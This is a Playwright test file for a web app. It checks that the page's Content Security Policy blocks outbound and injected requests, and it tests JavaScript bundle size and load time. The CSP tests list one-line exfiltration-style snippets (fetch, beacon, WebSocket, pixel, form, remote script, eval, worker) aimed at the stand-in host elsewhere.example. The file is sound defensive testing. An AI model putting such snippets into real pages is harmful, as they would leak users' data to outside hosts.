import { gzipSync } from 'node:zlib'
import { test as bare } from '@playwright/test'
import { expect, test } from './support/app'

const FIRST_JAVASCRIPT_KB = 250
const INTERACTIVE_MS = 2_000

/** What a page that wanted to send something away would try, and the directive that must forbid it. */
const ATTEMPTS: readonly (readonly [directive: string, name: string, attempt: () => unknown])[] = [
  ['connect-src', 'fetch', () => fetch('https://elsewhere.example/')],
  ['connect-src', 'beacon', () => navigator.sendBeacon('https://elsewhere.example/', 'text')],
  ['connect-src', 'socket', () => new WebSocket('wss://elsewhere.example/')],
  ['img-src', 'image', () => Object.assign(new Image(), { src: 'https://elsewhere.example/pixel.png' })],
  ['frame-src', 'frame', () => append('iframe', { src: 'https://elsewhere.example/' })],
  ['form-action', 'form', () => append('form', { action: 'https://elsewhere.example/' }).submit()],
  ['script-src-elem', 'script', () => append('script', { src: 'https://elsewhere.example/script.js' })],
  ['script-src-elem', 'inline script', () => append('script', { textContent: 'document.title = "in"' })],
  ['script-src', 'eval', () => new Function('return true')()],
  ['worker-src', 'worker', () => new Worker(URL.createObjectURL(new Blob([''])))],
]

/** Only named in the attempts: it exists in the page, where `tryOut` defines it. */
declare function append<Tag extends keyof HTMLElementTagNameMap>(
  tag: Tag,
  properties: Partial<HTMLElementTagNameMap[Tag]>,
): HTMLElementTagNameMap[Tag]

/** Runs an attempt as the page itself would, out of the debugger's reach; the directive that forbade it, or null. */
const tryOut = (source: string) =>
  `new Promise((done) => {
    const append = (tag, properties) => {
      const element = Object.assign(document.createElement(tag), properties)
      document.body.append(element)
      return element
    }
    // A library of the page may probe the policy by itself: what has a file of the page as its source is not ours.
    addEventListener('securitypolicyviolation', ({ effectiveDirective, sourceFile }) => {
      if (!sourceFile.startsWith(location.origin)) done(effectiveDirective)
    })
    setTimeout(() => { Promise.resolve().then(${source}).catch(() => {}) })
    setTimeout(done, 2000, null)
  })`

// Without the project's own `test`: the browser reports each blocked attempt as an error in the console.
for (const [directive, name, attempt] of ATTEMPTS) {
  bare(`the page's policy lets nothing out nor in: ${name}`, async ({ page }) => {
    await page.goto('./')
    expect(await page.evaluate<string | null>(tryOut(attempt.toString()))).toBe(directive)
  })
}

bare('the first screen needs little JavaScript, and neither the map nor the charts', async ({ page }) => {
  const sizes = new Map<string, Promise<number>>()
  page.context().on('response', (response) => {
    if (!/javascript/.test(response.headers()['content-type'] ?? '')) return
    sizes.set(
      response.url(),
      response.body().then((body) => gzipSync(body).length / 1_000),
    )
  })
  await page.goto('./', { waitUntil: 'networkidle' })
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const total = (await Promise.all(sizes.values())).reduce((sum, size) => sum + size, 0)
  expect(total).toBeGreaterThan(0)
  expect(total).toBeLessThanOrEqual(FIRST_JAVASCRIPT_KB)
  expect([...sizes.keys()].filter((url) => /maplibre|chart/.test(url))).toEqual([])
})

test('the page answers within two seconds of a cold start', async ({ browser, baseURL }) => {
  const times: number[] = []
  // The best of three: what the page takes, not what else the machine was doing.
  for (let round = 0; round < 3 && Math.min(...times) > INTERACTIVE_MS - 1; round++) {
    const context = await browser.newContext()
    const page = await context.newPage()
    await page.goto(baseURL!, { waitUntil: 'commit' })
    await page.getByRole('button', { name: 'Ouvrir le territoire de démonstration' }).click({ trial: true })
    times.push(await page.evaluate(() => performance.now()))
    await context.close()
  }
  expect(Math.min(...times)).toBeLessThanOrEqual(INTERACTIVE_MS)
})
